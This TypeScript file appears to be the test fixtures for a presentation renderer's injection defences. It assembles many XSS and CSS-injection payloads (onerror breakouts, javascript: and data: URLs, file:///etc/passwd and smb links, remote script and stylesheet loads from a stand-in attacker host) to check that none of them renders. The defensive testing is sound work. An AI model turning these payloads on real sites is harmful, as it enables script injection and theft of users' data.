import { figureSamples } from '../figure-samples.ts';
import { type Attack, EVIL, RUN } from './attack.ts';

// What stands in words, cells, keys and addresses of data: none of it is ever markup.

/** Ends whatever it may stand in, and then runs. */
const WORDS = `'"></script></style></title></textarea>--><img src=x onerror="${RUN}">`;
const RUNS = `javascript:${RUN}`;
const PAGE = `data:text/html,<script>${RUN}</script>`;
const said = JSON.stringify(WORDS);
const link = (address: string) =>
  `<a class="click" href="${address}">a</a><iframe src="${address}"></iframe>`;
const fence = (kind: string, keys: object) => `\`\`\`${kind}\n${JSON.stringify(keys)}\n\`\`\``;
const cell = `"${WORDS.replaceAll('"', '""')}"`;

const event = (keys: object) => ({
  date: '1900',
  title: `NAME ${JSON.stringify(keys).length}`,
  lane: 'l',
  ...keys,
});
const timeline = (name: string, keys: object, made: string): Attack => ({
  name,
  slide: fence('timeline', { file: `${name}.yaml` }),
  files: {
    [`${name}.yaml`]: JSON.stringify({ title: 'a', events: [event({}), event({ date: '1950' })], ...keys }),
  },
  made,
});
const table = (name: string, kind: string, keys: object, rows: string, made: string): Attack => ({
  name,
  slide: fence(kind, { file: `${name}.csv`, ...keys }),
  files: { [`${name}.csv`]: rows },
  made,
});

const FIGURES: readonly Attack[] = [
  timeline(
    'timeline-words',
    {
      title: WORDS,
      eras: [{ from: '1900', name: WORDS, years: WORDS }],
      lanes: [{ id: 'l', name: WORDS }],
      bands: [{ name: WORDS, from: '1910', to: '1920' }],
      spans: [{ lane: 'l', name: WORDS, from: '1930', to: '1940' }],
      marks: { [WORDS]: WORDS },
      legend: { [WORDS]: WORDS },
      events: [
        event({
          ...{ title: WORDS, summary: WORDS, when: WORDS, place: WORDS, mark: WORDS, kind: WORDS },
          ...{ facts: { [WORDS]: WORDS }, parties: [WORDS], instrument: WORDS },
          second: { lang: 'de', title: WORDS },
          milestones: [{ date: '1905', label: WORDS }],
          link: { address: 'https://example.org/', words: WORDS },
          image: { file: 'a.png', alt: WORDS, credit: WORDS },
        }),
        event({ date: '1950' }),
      ],
    },
    WORDS,
  ),
  timeline(
    'timeline-link-break',
    { events: [event({ link: `https://example.org/"class="click"onclick="${RUN}` })] },
    `<a class="click" onclick="${RUN}">a</a>`,
  ),
  timeline(
    'timeline-picture',
    { events: [event({ image: `${EVIL}a.png` }), event({ date: '1950', image: '\\\\evil.test\\a.png' })] },
    `<img src="${EVIL}a.png">`,
  ),
  timeline(
    'timeline-picture-program',
    { events: [event({ image: RUNS }), event({ image: `x" onerror="${RUN}` })] },
    `<img src="x" onerror="${RUN}">`,
  ),
  table(
    'events-words',
    'events',
    {},
    `date,title,lane,text,source\n1900,${cell},${cell},${cell},${cell}\n${cell},a,,,\n`,
    WORDS,
  ),
  table('events-heads', 'timeline', {}, `date,title,${cell}\n1900,NAME 1,${cell}\n1950,NAME 2,c\n`, WORDS),
  table('events-link', 'events', {}, `date,title,source\n1900,a,"${RUNS}"\n1901,b,"${PAGE}"\n`, link(RUNS)),
  {
    name: 'markwhen-link',
    slide: fence('timeline', { file: 'm.mw' }),
    files: {
      'm.mw': `title: ${WORDS}\n\n1900: [a](${RUNS}) ${WORDS}\n1901: ![a](${EVIL}a.png) <img src=${EVIL}>\n`,
    },
    made: link(RUNS),
  },
  {
    name: 'timelinejs-markup',
    slide: fence('timeline', { file: 'knight.json' }),
    files: {
      'knight.json': JSON.stringify({
        title: { text: { headline: WORDS, text: `<p onclick="${RUN}">${WORDS}</p>` } },
        events: [
          {
            start_date: { year: '1900', display_date: WORDS },
            text: {
              headline: `<img src=x onerror="${RUN}">`,
              text: `<a href="${RUNS}">a</a><script>${RUN}</script>`,
            },
            media: {
              url: `${EVIL}a.png`,
              thumbnail: `${EVIL}b.png`,
              caption: WORDS,
              credit: WORDS,
              link: RUNS,
            },
            background: { url: `${EVIL}c.png`, color: `red;background:url(${EVIL})` },
            group: WORDS,
            unique_id: WORDS,
          },
          {
            start_date: { year: '1950' },
            text: { headline: 'b' },
            media: { url: `<iframe src="${EVIL}"></iframe>` },
          },
        ],
      }),
    },
    made: WORDS,
  },
  table(
    'chart-words',
    'chart',
    {
      title: WORDS,
      finding: WORDS,
      note: WORDS,
      target: { value: 2, label: WORDS },
      scale: { unit: `{} ${WORDS}` },
    },
    `${cell},${cell}\n${cell},1\nb,2\nc,3\n`,
    WORDS,
  ),
  table(
    'chart-series',
    'chart',
    { series: 's' },
    `year,s,v\n1900,${cell},1\n1901,${cell},2\n1900,b,1\n1901,b,3\n`,
    WORDS,
  ),
  table(
    'chart-facet',
    'chart',
    { facet: 's' },
    `year,s,v\n1900,${cell},1\n1901,${cell},2\n1900,b,1\n1901,b,3\n`,
    WORDS,
  ),
  {
    name: 'map-words',
    slide: fence('map', {
      ...{ alt: WORDS, note: WORDS, borders: WORDS },
      places: [
        { name: WORDS, at: [1, 50], text: WORDS },
        { name: 'b', at: [5, 52] },
      ],
      seas: [{ name: WORDS, at: [2, 54] }],
      routes: [{ through: [WORDS, 'b'] }],
      legend: [{ symbol: 'dot', title: WORDS, lines: [WORDS] }],
    }),
    made: WORDS,
  },
  ...figureSamples(WORDS).map(({ name, fence: slide }) => ({ name: `${name}-words`, slide, made: WORDS })),
  {
    name: 'book-words',
    slide: fence('book', {
      ...{ file: 'book-words.yaml', lanes: ['l', WORDS], alt: WORDS, note: WORDS },
      ...{ start: { date: WORDS, text: WORDS }, end: { date: WORDS, text: WORDS } },
    }),
    files: {
      'book-words.yaml': JSON.stringify({ title: WORDS, events: [event({}), event({ date: '1950' })] }),
    },
    made: WORDS,
  },
  {
    name: 'receipt-words',
    slide: '{{receipt.csv k=a v}} {{receipt.csv v max()}}',
    files: { 'receipt.csv': `k,v,source\na,1,${cell}\n${cell},2,${cell}\n` },
    made: WORDS,
  },
];

const PAGE_PARTS: readonly Attack[] = [
  {
    name: 'later-held',
    slide: `<p id="held">["&lt;img src=x onerror=${RUN}&gt;"]</p>\n<p data-later="held" data-page="0">a</p>`,
    made: WORDS,
  },
  {
    name: 'later-fetched',
    slide: `<p data-later="${EVIL}" data-page="0">a</p>`,
    made: `<img src="${EVIL}">`,
  },
  {
    name: 'cards-held',
    slide: `<p id="cards">{"e":{"html":"&lt;img src=x onerror=${RUN}&gt;","label":"a"}}</p>\n<figure class="timeline" data-cards="cards" data-live="timeline"><ol class="events"><li data-event="e"><button class="event-title click">a</button></li></ol></figure>`,
    made: WORDS,
  },
  {
    name: 'cards-fetched',
    slide: `<figure class="timeline" data-cards="${EVIL}" data-whole="${EVIL}" data-strips="${EVIL}"><ol class="events"><li data-event="e"><button class="event-title click">a</button></li></ol></figure>`,
    made: `<img src="${EVIL}">`,
  },
  {
    name: 'rows-fetched',
    slide: `<div class="table" data-rows="${EVIL}" data-live="chart"><table><tr><td>a</table></div>`,
    made: `<img src="${EVIL}">`,
  },
  {
    name: 'auto-animate-easing',
    slide: `<!-- .slide: data-auto-animate data-auto-animate-easing="ease}p{background:url(${EVIL})}" -->\n\n### one\n\n---\n\n<!-- .slide: data-auto-animate data-auto-animate-easing="ease}p{background:url(${EVIL})}" -->\n\n### one\n\na`,
    made: `<style>p{background:url(${EVIL})}</style><p>a</p>`,
  },
  {
    name: 'auto-animate-element',
    slide: `<!-- .slide: data-auto-animate -->\n\n<h3 data-auto-animate-easing="ease}p{background:url(${EVIL})}" data-id="a">a</h3>\n\n---\n\n<!-- .slide: data-auto-animate -->\n\n<h3 data-auto-animate-easing="ease}p{background:url(${EVIL})}" data-id="a">a</h3><h3 style="font-size:9px" data-id="b">b</h3>`,
    made: `<style>p{background:url(${EVIL})}</style><p>a</p>`,
  },
  {
    name: 'id-line',
    slide: `<!-- .slide: id="a\nb{}} section{background:url(${EVIL})} x{" data-background-color="#fff" -->\n<style>p{color:red}</style>\n<p style="color:red">a</p>`,
    made: `<style>p{background:url(${EVIL})}</style><p>a</p>`,
  },
  {
    name: 'attribute-list',
    slide: `## a {onclick="${RUN}" data-background-iframe="${RUNS}" id="x"}\n\n**a**{onclick="${RUN}" .click} ![a](a.png){onerror="${RUN}" srcset="${EVIL}"} a {style="background:url(${EVIL})"}\n\n[a](#x){.click ping="${EVIL}"}`,
    made: `<img src=x onerror="${RUN}">`,
  },
  {
    name: 'element-comment',
    slide: `a <!-- .element: onclick="${RUN}" style="background:url(${EVIL})" class="click" -->`,
    made: `<p onclick="${RUN}" class="click" style="background:url(${EVIL})">a</p>`,
  },
  {
    name: 'code-language',
    slide: `\`\`\`"><img src=x onerror=${RUN}>\n${WORDS}\n\`\`\`\n\n\`\`\`js [1|2"><img src=x onerror=${RUN}>]\nlet a = "${WORDS}";\n\`\`\``,
    made: WORDS,
  },
  {
    name: 'mermaid',
    slide: `\`\`\`mermaid\ngraph TD\nA["${WORDS.replaceAll('"', "'")}"] --> B\nclick A "${RUNS}"\n%%{init: {"securityLevel": "loose"}}%%\n\`\`\`\n\n<div class="mermaid">graph TD; A["<img src=x onerror=${RUN}>"]</div>`,
    made: WORDS,
  },
  {
    name: 'emoji-names',
    slide: `:smile"><img src=x onerror=${RUN}>: :${'<'}script>${RUN}</script>:`,
    made: WORDS,
  },
  {
    name: 'footnote',
    slide: `a[^${'x'}] and [^"><img src=x onerror=${RUN}>]\n\n[^x]: ${WORDS} [a](${RUNS})`,
    made: WORDS,
  },
  { name: 'citation', slide: `a [@none"><img src=x onerror=${RUN}>, p. ${WORDS}]`, made: WORDS },
  { name: 'headline', slide: `## \`${WORDS}\`\n\n## ${WORDS}`, made: WORDS },
];

const FORMULAS: readonly Attack[] = [
  ['href', `\\href{${RUNS}}{x}`],
  ['url', `\\url{${RUNS}}`],
  ['style', `\\style{background:url(${EVIL})}{x}`],
  ['class', `\\class{"><img src=x onerror=${RUN}>}{x} \\id{"><img src=x onerror=${RUN}>}{x}`],
  ['data', `\\data{later=${EVIL}}{x} \\htmlData{later=${EVIL}}{x} \\htmlStyle{background:url(${EVIL})}{x}`],
  ['picture', `\\includegraphics{${EVIL}a.png}`],
  [
    'words',
    `\\text{<img src=x onerror="${RUN}">} \\textcolor{red;background:url(${EVIL})}{x} \\color{"><img src=x onerror=${RUN}>}x`,
  ],
  ['macro', `\\def\\a{\\href{${RUNS}}{x}} \\a \\tag{<img src=x onerror=${RUN}>}`],
].map(([name, tex]) => ({
  name: `formula-${name}`,
  slide: `$$${tex}$$\n\n<span class="math inline">${tex}</span>`,
  made: `<img src=x onerror="${RUN}">`,
}));

const ADDRESSES: readonly Attack[] = [
  {
    name: 'data-drawing',
    slide: `![a](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${RUN}'/%3E)\n<img src="data:image/svg+xml;base64,PHN2Zy8+">\n<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${RUN.replaceAll("'", '&quot;')}</script></svg>"></iframe>`,
    made: WORDS,
  },
  {
    name: 'data-page',
    slide: `![a](${PAGE.replaceAll(' ', '%20')})\n[a](${PAGE})\n<img src="${PAGE}"><a class="click" href="${PAGE}">a</a>`,
    made: `<iframe src="${PAGE}"></iframe>`,
  },
  {
    name: 'machine-links',
    slide:
      '[a](file:///etc/passwd) [b](smb://evil.test/a) <a class="click" href="smb://evil.test/a">c</a> ![d](file:///etc/passwd) ![e](smb://evil.test/a.png) <img src="file://evil.test/a.png">',
    made: `<img src="${EVIL}a.png">`,
  },
  {
    name: 'page-links',
    slide: `[a](#/"><img%20src=x%20onerror=${RUN}>) [b](blob:${EVIL}) [c](view-source:${EVIL}) [d](vbscript:${RUN}) [e](about:blank)`,
    made: WORDS,
  },
  {
    name: 'file-name',
    slide: `![a](<'"><img src=x onerror=(top.pwned||=[]).push('NAME')>.png>)`,
    files: { [`'"><img src=x onerror=(top.pwned||=[]).push('NAME')>.png`]: 'x' },
    made: WORDS,
  },
  {
    name: 'sources',
    slide: `a [@w] [@v]\n\n---\n\n${fence('sources', { note: WORDS })}`,
    files: {
      'sources.json': JSON.stringify([
        {
          id: 'w',
          type: 'book',
          title: WORDS,
          author: [{ literal: WORDS }],
          publisher: WORDS,
          URL: 'https://example.org/"onfocus="',
          note: WORDS,
          issued: { literal: WORDS },
        },
        { id: 'v', type: WORDS, title: 'a' },
      ]),
    },
    made: WORDS,
  },
  {
    name: 'bibliography',
    slide: 'a [@k]',
    files: {
      'sources.bib': `@book{k, title={${WORDS.replaceAll('"', "''")}}, author={${'<'}img src=x onerror=${RUN}>}, url={https://example.org/"onfocus=${RUN}}, year={1900}}\n`,
    },
    made: WORDS,
  },
];

const FRONT: readonly Attack[] = [
  ['author', `author: ${said}\nsubtitle: ${said}\nkeywords: ${said}\ndate: ${said}\nhighlightTheme: ${said}`],
  ['dir', `dir: ${said}`],
  ['lang', `lang: ${said}`],
  ['url', `url: ${JSON.stringify(RUNS)}`],
  ['url-break', `url: ${JSON.stringify(`https://example.org/"><img src=x onerror=${RUN}>`)}`],
  ['scripts', `scripts: ["scripts.js", "${EVIL}a.js", ${said}]`],
  ['css', `css: ["${EVIL}a.css", ${said}, "css.css"]`],
  ['fonts', `fonts: { display: "${EVIL}a.woff2", text: ${said}, strong: "a);}p{background:url(${EVIL})" }`],
  [
    'easing',
    `revealOptions: { autoAnimateEasing: "ease}p{background:url(${EVIL})}", slideNumber: ${said}, transition: ${said} }`,
  ],
].map(([name, front = '']) => ({
  name: `front-${name}`,
  front,
  files: { [`${name}.js`]: RUN, [`${name}.css`]: `@import "${EVIL}";p{background:url(${EVIL})}` },
  made: WORDS,
}));

export const DATA_ATTACKS: readonly Attack[] = [
  ...FIGURES,
  ...PAGE_PARTS,
  ...FORMULAS,
  ...ADDRESSES,
  ...FRONT,
];
